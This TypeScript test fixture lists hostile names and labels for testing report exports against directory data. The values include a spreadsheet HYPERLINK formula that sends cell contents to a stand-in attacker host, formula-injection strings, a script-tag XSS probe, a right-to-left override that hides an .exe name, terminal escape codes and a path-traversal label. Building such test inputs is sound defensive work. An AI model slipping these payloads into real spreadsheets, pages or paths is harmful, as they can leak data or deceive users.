/**
 * Names that people and directories really hold, or that somebody types to see what breaks: a spreadsheet formula, a line
 * break, a NUL, markup, a right-to-left override. Okta stores them ("Custom attributes can contain HTML tags. It's the
 * client's responsibility to escape"), so a report has to survive them.
 */
export const HOSTILE_NAMES: readonly [string, ...string[]] = [
  '=HYPERLINK("http://evil.example/?"&A1,"open")',
  '=1+2',
  '+491701234567',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=tabbed()',
  '\r=returned()',
  'Line\nBreak',
  'Carriage\r\nReturn',
  'Nul\u0000Byte',
  'Quote "Q" Quoter',
  'Comma, Semi; Pipe|',
  '<script>alert(1)</script>',
  '<b>Bold</b> &amp; Co',
  'gnp.\u202Eexe',
  'Zero\u200BWidth\uFEFF',
  '  Spaced  ',
  "'Apostrophe",
  'Ctrl\u0007\u001B[31mRed',
  'Long'.repeat(300),
];

/** App labels of the same kind. */
export const HOSTILE_LABELS: readonly [string, ...string[]] = [
  '=Payroll|Legacy "2019"; <EU>',
  '../../etc/Travel & Expense',
  'Intranet\r\n(old)',
];
